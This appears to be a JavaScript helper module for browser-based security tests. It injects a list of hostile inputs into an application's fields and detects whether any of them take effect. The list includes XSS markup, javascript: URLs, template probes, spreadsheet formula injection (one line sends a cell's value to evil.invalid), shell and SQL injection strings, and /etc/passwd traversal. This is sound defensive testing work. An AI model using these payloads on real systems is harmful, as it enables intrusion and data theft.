// Texts of somebody who wants more than to send a report, and what gives away that one of them did something.

/// What does something where it is not taken for text. `window.__hit`, `data-hit`, evil.invalid and the product are the traces.
export const attacks = {
  script: `<script>window.__hit=1</script>`,
  image: `"><img src=x data-hit onerror=window.__hit=1>`,
  attribute: `" data-hit autofocus onfocus="window.__hit=1`,
  single: `' data-hit onmouseover='window.__hit=1`,
  blank: `x onclick=window.__hit=1 data-hit`,
  title: `</title></textarea></select></style><u data-hit>`,
  ending: `</script><script data-hit>window.__hit=1</script>`,
  svg: `<svg data-hit onload=window.__hit=1>`,
  svgEnd: `</text></svg><svg><script data-hit>window.__hit=1</script>`,
  foreign: `<svg><foreignObject><u data-hit xmlns="http://www.w3.org/1999/xhtml">`,
  math: `<math><mtext><table><mglyph><style><img data-hit src=x onerror=window.__hit=1>`,
  frame: `<iframe data-hit srcdoc="<script>parent.__hit=1</script>">`,
  address: `javascript:window.__hit=1//`,
  addressHidden: `java\u200Bscript:window.__hit=1//`,
  data: `data:text/html,<script>window.__hit=1</script>`,
  anchor: `<a data-hit href=javascript:window.__hit=1>here</a>`,
  elsewhere: `//evil.invalid/`,
  style: `<style data-hit>@import'//evil.invalid/x';</style>`,
  base: `<base data-hit href=//evil.invalid/>`,
  refresh: `<meta data-hit http-equiv=refresh content="0;url=//evil.invalid/">`,
  form: `<form data-hit action=//evil.invalid/><button>Store</button>`,
  comment: `--><u data-hit><!--`,
  section: `]]><u data-hit><![CDATA[`,
  template: "{{7777*1117}}${7777*1117}<%=7777*1117%>#{7777*1117}{%u%}",
  twice: `&lt;u data-hit&gt;&#60;u data-hit&#62;&amp;lt;u data-hit&amp;gt;`,
  escaped: String.raw`\u003cu data-hit\u003e\x3cscript\x3e`,
  wide: `＜u data-hit＞‹u›`,
  formula: `=HYPERLINK("http://evil.invalid/?q="&A1,"go")`,
  plus: `+1+cmd|'/C calc'!A0`,
  minus: `-1+cmd|'/C calc'!A0`,
  at: `@SUM(1+1)*cmd|'/C calc'!A0`,
  fullwidth: `＝1+cmd|'/C calc'!A0`,
  quotes: `","=1+1","`,
  shell: "'; Write-Host hit; '$(hit)`\"&hit|hit",
  sql: `' OR 1=1;--`,
  folders: `../../../../etc/passwd%2f..%2f`,
  direction: `\u202Egpj.exe\u202C\u2066x\u2069`,
  unseen: `a\u200Bb\uFEFFc\u00ADd`,
  pile: `e${"\u0301".repeat(60)}`,
  long: "W".repeat(200),
};

/// The fields that an attack was put into.
export const fields = new Set();

/// An attack in a field: the tag behind it says on a page which field it came from.
export function hostile(field, name, most = 256) {
  fields.add(field);
  const tag = ` ~${field}~`;
  return [...attacks[name]].slice(0, most - tag.length).join("") + tag;
}

/// Runs in the page before it: what the policy refused.
export function watchPolicy() {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
}

/// Runs in the page: everything that a text has done to it, and the page's whole text, in small letters, for counting.
function inPage(origin) {
  const faults = [];
  if (window.__hit !== undefined) faults.push("a script of a text ran");
  for (const said of window.refused ?? []) faults.push(`the policy had to refuse: ${said}`);
  const texts = [document.title];
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      const tag = element.outerHTML.slice(0, 160);
      const name = element.localName;
      if (["iframe", "frame", "object", "embed", "base", "style", "applet", "foreignobject"].includes(name.toLowerCase())) faults.push(`an element that we never write: ${tag}`);
      if (name === "meta" && element.httpEquiv) faults.push(`an instruction to the browser: ${tag}`);
      if (name === "script" && new URL(element.src || "none:", document.baseURI).origin !== origin) faults.push(`a script: ${tag}`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith("data-hit") || attribute.startsWith("on") || attribute === "style" || attribute === "srcdoc") faults.push(`an attribute ${attribute}: ${tag}`);
        if (["href", "src", "action", "formaction", "xlink:href", "data", "poster"].includes(attribute)) {
          const url = new URL(value, document.baseURI);
          const harmless = url.protocol === "https:" || url.origin === origin || (name === "img" && url.protocol === "data:");
          if (!harmless || url.hostname.endsWith("evil.invalid")) faults.push(`${attribute} leads to ${url.href.slice(0, 120)}: ${tag}`);
          if (attribute !== "href" && url.origin !== origin && url.protocol !== "data:") faults.push(`${attribute} is of another server: ${tag}`);
        }
        texts.push(value);
      }
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  texts.push(document.documentElement.textContent);
  const text = texts.join("\n");
  if (text.includes("8686909") || text.includes("8,686,909")) faults.push("a template expression was worked out");
  const links = [...document.querySelectorAll("a[href]")].map((link) => new URL(link.getAttribute("href"), document.baseURI).href).filter((href) => href.startsWith(`${origin}/`));
  for (const form of document.querySelectorAll("form")) {
    if (form.getAttribute("method") !== "post") links.push(`${new URL(form.getAttribute("action") ?? "", document.baseURI).href.split("?")[0]}?${new URLSearchParams(new FormData(form))}`);
  }
  return { faults, text: text.toLowerCase(), links };
}

/// Watches a page. `look` gives what has been found since the last time, and the links and the text of what is shown.
export async function watch(page, url) {
  const { origin } = new URL(url);
  const heard = [];
  await page.addInitScript(watchPolicy);
  page.on("dialog", async (dialog) => {
    heard.push(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("request", (request) => {
    const asked = new URL(request.url());
    if (asked.origin !== origin && asked.protocol !== "data:") heard.push(`asked another server: ${asked.href}`);
  });
  page.on("popup", () => heard.push("a window opened"));
  page.on("pageerror", (error) => heard.push(`a script failed: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() === "error" && !message.text().startsWith("Failed to load resource")) heard.push(`console: ${message.text()}`);
  });
  return {
    async look() {
      const seen = await page.evaluate(inPage, origin);
      return { ...seen, faults: [...heard.splice(0), ...seen.faults] };
    },
  };
}

/// The cells of a CSV text by RFC 4180.
export function cells(text) {
  const found = [];
  for (const [, quoted, bare] of text.replace(/^\uFEFF/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) {
    found.push(quoted === undefined ? bare : quoted.replaceAll('""', '"'));
  }
  return found;
}

/// What is wrong with an answer that is no page: what a program that opens it would carry out.
export function faultsOf({ headers, text }) {
  const kind = (headers["content-type"] ?? "").split(";")[0];
  const faults = [];
  if (headers["x-content-type-options"] !== "nosniff") faults.push("no nosniff");
  if (!headers["content-security-policy"]?.includes("default-src 'none'")) faults.push("no policy");
  if (["text/html", "application/xhtml+xml", ""].includes(kind)) faults.push(`a download that is a page: ${kind}`);
  if (/[\r\n]/.test(headers["content-disposition"] ?? "") || /<|~\w+~/.test(headers["content-disposition"] ?? "")) faults.push(`a file name of somebody else's: ${headers["content-disposition"]}`);
  if (kind === "image/svg+xml" && /data-hit|<script|\son\w+\s*=|javascript:|evil\.invalid/i.test(text)) faults.push("markup in a picture");
  if (kind === "text/csv") {
    for (const cell of cells(text)) {
      if (/^[\s\0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d[\d.,:%]*$/.test(cell) && cell !== "-") faults.push(`a formula: ${cell.slice(0, 60)}`);
      if (/^[\t\r\n]/.test(cell)) faults.push(`a cell that begins with a sign that programs pass over: ${JSON.stringify(cell.slice(0, 60))}`);
    }
  }
  return faults;
}
